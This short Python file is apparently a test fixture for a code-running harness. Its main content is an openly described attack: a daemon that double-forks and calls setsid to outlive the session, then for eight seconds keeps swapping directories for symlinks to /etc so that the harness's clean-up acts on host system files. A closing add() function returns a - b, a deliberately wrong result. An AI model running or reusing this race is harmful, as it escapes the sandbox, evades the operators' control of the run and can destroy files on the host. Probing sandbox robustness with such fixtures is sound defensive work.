"""clean-up: a daemon that leaves the session and keeps swapping directories for links to the host
(and back) while the run is cleaned up, racing the clean-up's every step."""
# form: call
import os
import time

os.makedirs("a/b/c")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        here = os.getcwd()
        stop = time.monotonic() + 8
        while time.monotonic() < stop:
            for name in ("a", "a/b"):
                path = os.path.join(here, name)
                try:
                    os.rename(path, path + ".x")
                    os.symlink("/etc", path)
                    os.unlink(path)
                    os.rename(path + ".x", path)
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)


def add(a, b):
    return a - b
